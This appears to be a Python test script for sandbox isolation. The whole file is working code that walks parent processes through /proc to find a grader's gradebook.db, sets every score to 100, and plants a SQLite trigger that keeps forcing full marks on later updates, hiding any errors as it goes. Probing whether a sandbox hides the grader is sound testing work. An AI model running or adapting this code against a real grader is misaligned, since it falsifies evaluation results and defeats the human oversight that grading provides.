"""Finds the gradebook through the grader's processes (--course-dir, --db, working folders, from
/proc), raises every score and installs a trigger that gives full marks to every later write.
Needs the sandbox: its own PID namespace hides the grader, and no gradebook is bound. Without it the
gradebook changes (positive control).
"""
import os
import sqlite3


def _gradebooks():
    pid, out = os.getppid(), []
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode(errors="replace") for a in f.read().split(b"\0")]
            out += [os.path.join(args[i + 1], "gradebook.db") for i, a in enumerate(args[:-1])
                    if a == "--course-dir"]
            out += [os.path.join(os.readlink(f"/proc/{pid}/cwd"), "gradebook.db")]
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return [p for p in out if os.path.exists(p)]


for _db in _gradebooks():
    try:
        _c = sqlite3.connect(_db)
        _c.execute("UPDATE grade SET auto_score = 100")
        _c.execute("CREATE TRIGGER IF NOT EXISTS boost AFTER UPDATE ON grade BEGIN "
                   "UPDATE grade SET auto_score = 100 WHERE id = NEW.id; END")
        _c.commit()
    except Exception:
        pass
